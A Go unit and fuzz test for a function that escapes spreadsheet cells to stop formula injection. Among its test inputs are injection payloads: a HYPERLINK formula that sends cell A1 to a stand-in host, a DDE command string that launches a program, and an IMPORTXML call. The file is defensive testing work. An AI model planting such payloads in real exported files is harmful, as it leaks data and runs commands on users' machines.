package formula

import "testing"

func TestEscape(t *testing.T) {
	tests := []struct{ in, want string }{
		// Ordinary text a marketer writes: unchanged.
		{"-20 % sur tout", "-20 % sur tout"},
		{"+33 6 12 34 56 78", "+33 6 12 34 56 78"},
		{"+33612345678", "+33612345678"},
		{"- Livraison offerte", "- Livraison offerte"},
		{"+ de 100 modèles !", "+ de 100 modèles !"},
		{"-30 € dès 2 articles", "-30 € dès 2 articles"},
		{"-50%", "-50%"},
		{"@marque nouveautés", "@marque nouveautés"},
		{"- Robe (bleue) | Jupe", "- Robe (bleue) | Jupe"},
		{"Vase = beau", "Vase = beau"},
		{"", ""},
		{"'déjà cité", "'déjà cité"},
		// What a spreadsheet would compute: escaped.
		{`=HYPERLINK("http://x.example/?"&A1,"clic")`, `'=HYPERLINK("http://x.example/?"&A1,"clic")`},
		{"=1+2", "'=1+2"},
		{"@SUM(1,2)", "'@SUM(1,2)"},
		{"+A1+B1", "'+A1+B1"},
		{"-2+3", "'-2+3"},
		{"-A1", "'-A1"},
		{"+$B$2*3", "'+$B$2*3"},
		{"-SUM(A1:A9)", "'-SUM(A1:A9)"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-[Book1.xlsx]Sheet1!A1", "'-[Book1.xlsx]Sheet1!A1"},
		{"@IMPORTXML(\"x\")", "'@IMPORTXML(\"x\")"},
		{"\t=1+2", "'\t=1+2"},
		{"\rx", "'\rx"},
		// Text that starts as an escaped cell does keeps its apostrophe.
		{"'=1+2", "''=1+2"},
		{"''=1+2", "'''=1+2"},
	}
	for _, tt := range tests {
		if got := Escape(tt.in); got != tt.want {
			t.Errorf("Escape(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if got := Unescape(tt.want); got != tt.in {
			t.Errorf("Unescape(%q) = %q, want %q", tt.want, got, tt.in)
		}
	}
}

func FuzzEscape(f *testing.F) {
	for _, s := range []string{"-2+3", "'=1", "''-A1", "@x(", "-20 % sur tout", "+cmd|'x'!A0"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		e := Escape(s)
		if Unescape(e) != s {
			t.Fatalf("Unescape(Escape(%q)) = %q", s, Unescape(e))
		}
		if Is(e) {
			t.Fatalf("Escape(%q) = %q still computes", s, e)
		}
		if e != s && e != "'"+s {
			t.Fatalf("Escape(%q) = %q", s, e)
		}
	})
}
